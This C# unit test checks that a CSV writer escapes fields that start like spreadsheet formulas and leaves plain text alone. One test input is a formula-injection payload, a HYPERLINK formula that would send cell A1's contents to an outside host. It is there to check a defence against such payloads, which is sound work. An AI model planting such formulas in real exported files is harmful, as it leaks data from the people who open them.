using System.Text;
using CsvHelper;
using Participation.BuildingBlocks.Infrastructure.Documents;

namespace Participation.UnitTests.Documents;

/// <summary>Text a spreadsheet would run as a formula is written as text.</summary>
public sealed class CsvFilesTests
{
    [Fact]
    public void A_field_that_starts_like_a_formula_is_escaped_and_plain_text_is_not()
    {
        using var buffer = new MemoryStream();
        using (var csv = CsvWriter.Create(buffer, CsvFiles.Options, leaveOpen: true))
        {
            csv.WriteField("=HYPERLINK(\"http://example.org/?\"&A1)");
            csv.WriteField("+44 20 7946 0000");
            csv.WriteField("Being asked before I move");
            csv.EndRecord();
        }

        var line = Encoding.UTF8.GetString(buffer.ToArray());
        Assert.StartsWith("\"'=HYPERLINK(", line, StringComparison.Ordinal);
        Assert.Contains(",\"'+44 20 7946 0000\",", line, StringComparison.Ordinal);
        Assert.EndsWith(",Being asked before I move\r\n", line, StringComparison.Ordinal);
    }
}
